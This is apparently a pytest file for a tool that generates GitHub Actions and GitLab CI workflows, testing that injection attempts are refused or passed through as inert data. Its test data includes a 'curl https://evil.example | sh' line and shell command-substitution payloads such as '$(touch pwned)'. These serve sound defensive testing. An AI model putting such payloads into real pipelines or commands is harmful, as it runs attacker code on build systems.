"""CI files are injection-proof: `ci init` carries every value as data, refuses what it cannot, writes valid YAML.

Accepted values are checked by running the generated shell the way the runner would (bash, with a fake
`smtrain` on PATH that records its argv): the arguments arrive exactly as given and nothing else runs. The
comment steps run too (the GitHub script under node with a fake API, the GitLab one against a local HTTP
server): they edit only a comment the workflow's own identity wrote.
"""

from __future__ import annotations

import contextlib
import http.server
import io
import json
import os
import shutil
import stat
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from smtrain.cli import main
from smtrain.runs import workflows
from smtrain.runs.report import MARKER

BASE = {"--entry-point": "train.py", "--source-dir": "src", "--channel": "train=s3://bucket/data/",
        "--gate": "accuracy>=0.8", "--group": "penguins"}
PATHS = {"github": Path(".github/workflows/smtrain.yml"), "gitlab": Path(".gitlab-ci.yml")}

REFUSED = [  # (provider, option, value, what the message says)
    ("github", "--channel", "train=s3://b/${{ github.head_ref }}/", "GitHub Actions evaluates"),
    ("github", "--entry-point", "train.py${{ github.event.pull_request.title }}", "GitHub Actions evaluates"),
    ("github", "--source-dir", "${{github.event.comment.body}}", "GitHub Actions evaluates"),
    ("github", "--gate", "acc${{github.head_ref}}>=0.8", "GitHub Actions evaluates"),
    ("github", "--source-dir", "src\n      - run: curl https://evil.example | sh", "control character"),
    ("github", "--channel", "train=s3://b/\r\nx", "control character"),
    ("github", "--entry-point", "train.py\x00", "control character"),
    ("gitlab", "--channel", "train=s3://b/x\n  script: [id]", "control character"),
    ("gitlab", "--entry-point", "train.py\u2028x", "control character"),
    *[(provider, "--branch", "main\nfoo", "control character") for provider in ("github", "gitlab")],
    *[(provider, "--branch", branch, "not a plain branch name")
      for provider in ("github", "gitlab")
      for branch in ('main"', "main]", 'main, "**"', "**", "release/*", "!main", "main'", "[abc]",
                     "feature branch", "-x", "a..b", "x.lock", "x/", "a//b", "main: x", "main #x", "ma?n", "a+b")],
]

CARRIED = [  # values that are hostile to a shell or to YAML, yet quotable: they must arrive exactly
    {"--channel": "train=s3://b/$(touch pwned)/`touch pwned`/"},
    {"--entry-point": "a b'\"; touch pwned; echo \".py"},
    {"--source-dir": "src/$HOME/${PATH}/*"},
    {"--gate": "acc'$(touch${IFS}pwned)`touch${IFS}pwned`>=0.8"},
    {"--channel": "train=s3://b/x: y #z/"},
    {"--channel": "train=s3://b/$CI_JOB_TOKEN/{{ x }}/"},
    {"--entry-point": "- [a]: {b} & *c | >d"},
    {"--entry-point": "ünïcode ✅.py"},
]


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


@dataclass
class Result:
    exit_code: int
    stdout: str
    stderr: str


def init(provider: str, overrides: dict[str, str] | None = None, *extra: str) -> Result:
    """`smtrain ci init` in this process, through the CLI's own error handling."""
    args = [arg for option, value in {**BASE, **(overrides or {})}.items() for arg in (option, value)]
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), pytest.raises(SystemExit) as done:
        main(["ci", "init", provider, *args, *extra])
    return Result(int(done.value.code or 0), out.getvalue(), err.getvalue())


def files(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())


@pytest.mark.parametrize(("provider", "option", "value", "message"), REFUSED,
                         ids=[f"{p}-{o}-{i}" for i, (p, o, _, _) in enumerate(REFUSED)])
def test_values_that_cannot_be_carried_are_refused(folder: Path, provider: str, option: str, value: str,
                                                   message: str) -> None:
    result = init(provider, {option: value})
    assert result.exit_code == 2, result.stdout + result.stderr
    assert f"{option}:" in result.stderr and message in result.stderr and "nothing was written" in result.stderr
    assert "Traceback" not in result.stdout + result.stderr and "unexpected" not in result.stderr
    assert files(folder) == [] and not (folder / ".github").exists()


def test_a_refused_value_leaves_an_existing_file_as_it_was(folder: Path) -> None:
    PATHS["github"].parent.mkdir(parents=True)
    PATHS["github"].write_text("mine\n")
    result = init("github", {"--channel": "train=s3://b/${{ github.head_ref }}/"}, "--force")
    assert result.exit_code == 2
    assert PATHS["github"].read_text() == "mine\n" and files(folder) == [str(PATHS["github"])]


def test_invalid_yaml_is_never_written(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workflows, "GITHUB", workflows.GITHUB.replace("permissions:\n  contents: read",
                                                                      "permissions: [\n  contents: read"))
    result = init("github")
    assert result.exit_code == 1 and "is not valid YAML" in result.stderr and "nothing was written" in result.stderr
    assert files(folder) == []


def test_a_file_appearing_meanwhile_is_not_overwritten(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = workflows.render

    def render_then_race(provider: str, settings: workflows.CiSettings) -> str:
        text = real(provider, settings)
        PATHS[provider].write_text("theirs\n")  # written by someone else after the exists check
        return text

    monkeypatch.setattr(workflows, "render", render_then_race)
    result = init("gitlab")
    assert result.exit_code == 2 and "exists" in result.stderr
    assert PATHS["gitlab"].read_text() == "theirs\n" and files(folder) == [str(PATHS["gitlab"])]


def fake_smtrain(bin_dir: Path) -> Path:
    """An `smtrain` that appends its argv, as JSON, to calls.jsonl; and writes the report `--out` asks for."""
    bin_dir.mkdir(exist_ok=True)
    tool = bin_dir / "smtrain"
    tool.write_text("#!/usr/bin/env python3\nimport json, os, sys\n"
                    "with open(os.environ['CALLS'], 'a') as f:\n    f.write(json.dumps(sys.argv[1:]) + '\\n')\n"
                    "if '--out' in sys.argv:\n"
                    "    open(sys.argv[sys.argv.index('--out') + 1], 'w').write('report')\n")
    tool.chmod(tool.stat().st_mode | stat.S_IEXEC)
    return bin_dir


def run_shell(script: str, env: dict[str, str], cwd: Path) -> list[list[str]]:
    calls = cwd / "calls.jsonl"
    calls.unlink(missing_ok=True)
    path = f"{fake_smtrain(cwd / 'bin')}:{os.environ['PATH']}"
    done = subprocess.run(["bash", "-e", "-c", script], cwd=cwd, capture_output=True, text=True, timeout=60,
                          env={"PATH": path, "HOME": str(cwd), "CALLS": str(calls), **env})
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in calls.read_text().splitlines()] if calls.exists() else []


def expected_fit(values: dict[str, str]) -> list[str]:
    return ["fit", "--entry-point", values["--entry-point"], "--source-dir", values["--source-dir"],
            "--channel", values["--channel"]]


@pytest.mark.parametrize("override", CARRIED, ids=[f"carried-{i}" for i in range(len(CARRIED))])
def test_github_carries_values_as_data(folder: Path, override: dict[str, str]) -> None:
    result = init("github", override)
    assert result.exit_code == 0, result.stdout + result.stderr
    values = {**BASE, **override}
    workflow = yaml.safe_load(PATHS["github"].read_text(encoding="utf-8"))
    assert workflow[True]["push"]["branches"] == ["main"]
    env = {k: str(v) for k, v in workflow["env"].items() if "${{" not in str(v)}
    assert env["TRAIN_CHANNEL"] == values["--channel"] and env["RELEASE_GATE"] == values["--gate"]
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            for value in override.values():
                assert value not in step.get("run", "") and value not in str(step.get("with", {}))
    fit_step = next(s for s in workflow["jobs"]["train"]["steps"] if s.get("id") == "fit")
    (call,) = run_shell(fit_step["run"], {**env, "JOB": "ci-1-1", "REF": "feature", "GITHUB_OUTPUT": "out"}, folder)
    assert call[:7] == expected_fit(values) and call[7:] == ["--job-name", "ci-1-1", "--tag", "ci=github", "--tag",
                                                             "ref=feature", "--no-wait"]
    report = next(s for s in workflow["jobs"]["report"]["steps"] if s.get("id") == "report")
    (call,) = run_shell(report["run"], {**env, "JOB": "ci-1-1", "GITHUB_STEP_SUMMARY": "summary",
                                        "GITHUB_OUTPUT": "out"}, folder)
    assert call == ["report", "ci-1-1", "--baseline", "main", "--gate", values["--gate"], "--out", "report.md"]
    assert not (folder / "pwned").exists()


@pytest.mark.parametrize("override", CARRIED, ids=[f"carried-{i}" for i in range(len(CARRIED))])
def test_gitlab_carries_values_as_data(folder: Path, override: dict[str, str]) -> None:
    result = init("gitlab", override)
    assert result.exit_code == 0, result.stdout + result.stderr
    values = {**BASE, **override}
    pipeline = yaml.safe_load(PATHS["gitlab"].read_text(encoding="utf-8"))
    variables = {k: v for k, v in pipeline["variables"].items() if isinstance(v, dict)}
    assert all(v["expand"] is False for v in variables.values())  # GitLab takes them as written
    env = {k: v["value"] for k, v in variables.items()}
    for job in ("train", "report"):
        for value in override.values():
            assert value not in "\n".join(pipeline[job]["script"])
    calls = run_shell("\n".join(pipeline["train"]["script"]), {**env, "CI_PIPELINE_ID": "7",
                                                                 "CI_COMMIT_REF_NAME": "feature"}, folder)
    assert calls == [[*expected_fit(values), "--job-name", "ci-7", "--tag", "ci=gitlab", "--tag", "ref=feature",
                      "--no-wait"]]
    report = "\n".join(line for line in pipeline["report"]["script"] if not line.startswith(("git ", "exit")))
    calls = run_shell(report, {**env, "CI_PIPELINE_ID": "7", "CI_COMMIT_BRANCH": "main"}, folder)
    assert calls[1] == ["report", "ci-7", "--baseline", "main", "--gate", values["--gate"], "--out", "report.md"]
    assert calls[2] == ["register", "ci-7", "--group", "penguins", "--approve"]
    assert not (folder / "pwned").exists()


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_a_plain_branch_is_the_only_trigger(folder: Path, provider: str) -> None:
    assert init(provider, None, "--branch", "release/v2.1").exit_code == 0
    document = yaml.safe_load(PATHS[provider].read_text())
    if provider == "github":
        assert document[True]["push"]["branches"] == ["release/v2.1"]
        assert document["env"]["RELEASE_BRANCH"] == "release/v2.1"
    else:
        assert document[".smtrain"]["rules"][1] == {"if": '$CI_COMMIT_BRANCH == "release/v2.1"'}
        assert document["variables"]["RELEASE_BRANCH"]["value"] == "release/v2.1"


GITHUB_HARNESS = """
const calls = [];
const comments = JSON.parse(process.argv[2]);
const github = {
  paginate: async () => comments,
  rest: { issues: {
    listComments: 'listComments',
    updateComment: async (args) => calls.push(['update', args.comment_id]),
    createComment: async (args) => calls.push(['create', args.issue_number]),
  } },
};
const context = { repo: { owner: 'o', repo: 'r' }, issue: { number: 5 } };
(async () => {
%s
  console.log(JSON.stringify(calls));
})();
"""


def github_comment(folder: Path, comments: list[dict[str, Any]]) -> list[list[Any]]:
    if shutil.which("node") is None:
        pytest.skip("node is not installed")
    assert init("github").exit_code == 0
    workflow = yaml.safe_load(PATHS["github"].read_text())
    (step,) = [s for s in workflow["jobs"]["report"]["steps"] if "github-script" in s.get("uses", "")]
    (folder / "report.md").write_text(MARKER + "\nnew report")
    (folder / "harness.js").write_text(GITHUB_HARNESS % step["with"]["script"])
    done = subprocess.run(["node", "harness.js", json.dumps(comments)], cwd=folder, capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    return list(json.loads(done.stdout))


BOT = {"login": "github-actions[bot]", "type": "Bot"}


def test_github_edits_only_its_own_comment(folder: Path) -> None:
    comments = [{"id": 1, "user": {"login": "mallory", "type": "User"}, "body": MARKER + " fake report"},
                {"id": 2, "user": {"login": "mallory", "type": "User"}, "body": f"quoting {MARKER}"},
                {"id": 3, "user": BOT, "body": f"another bot note that quotes {MARKER}"},
                {"id": 4, "user": BOT, "body": MARKER + "\nold report"}]
    assert github_comment(folder, comments) == [["update", 4]]


def test_github_writes_a_new_comment_when_only_others_carry_the_marker(folder: Path) -> None:
    comments = [{"id": 1, "user": {"login": "github-actions[bot]", "type": "User"}, "body": MARKER},  # a look-alike
                {"id": 2, "user": {"login": "mallory", "type": "User"}, "body": MARKER}]
    assert github_comment(folder, comments) == [["create", 5]]


class Notes(http.server.BaseHTTPRequestHandler):
    """GitLab's /user and merge-request notes API, as far as the note step uses it."""

    notes: list[dict[str, Any]] = []
    writes: list[tuple[str, str]] = []

    def do_GET(self) -> None:
        body = {"id": 42, "username": "project_1_bot"} if self.path.endswith("/user") else self.notes
        self._answer(body)

    def do_PUT(self) -> None:
        self.writes.append(("PUT", self.path))
        self._answer({})

    def do_POST(self) -> None:
        self.writes.append(("POST", self.path))
        self._answer({})

    def _answer(self, body: Any) -> None:
        if self.headers.get("Content-Length"):
            self.rfile.read(int(self.headers["Content-Length"]))
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def gitlab_api() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Notes)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    Notes.writes = []
    yield f"http://127.0.0.1:{server.server_address[1]}/api/v4"
    server.shutdown()
    server.server_close()
    thread.join(timeout=10)


def test_gitlab_edits_only_its_own_note(folder: Path, gitlab_api: str) -> None:
    Notes.notes = [{"id": 1, "author": {"id": 7}, "body": MARKER + " fake", "system": False},
                   {"id": 2, "author": {"id": 42}, "body": MARKER, "system": True},
                   {"id": 3, "author": {"id": 42}, "body": f"quoting {MARKER}", "system": False},
                   {"id": 4, "author": {"id": 42}, "body": MARKER + "\nold", "system": False}]
    assert init("gitlab").exit_code == 0
    pipeline = yaml.safe_load(PATHS["gitlab"].read_text())
    (note,) = [line for line in pipeline["report"]["script"] if "SMTRAIN_GITLAB_TOKEN" in line]
    (folder / "report.md").write_text(MARKER + "\nnew")
    env = {"CI_MERGE_REQUEST_IID": "9", "SMTRAIN_GITLAB_TOKEN": "t", "CI_API_V4_URL": gitlab_api,
           "CI_PROJECT_ID": "3"}
    assert run_shell(note, env, folder) == []
    assert Notes.writes == [("PUT", "/api/v4/projects/3/merge_requests/9/notes/4")]

    Notes.notes, Notes.writes = Notes.notes[:3], []
    run_shell(note, env, folder)
    assert Notes.writes == [("POST", "/api/v4/projects/3/merge_requests/9/notes")]
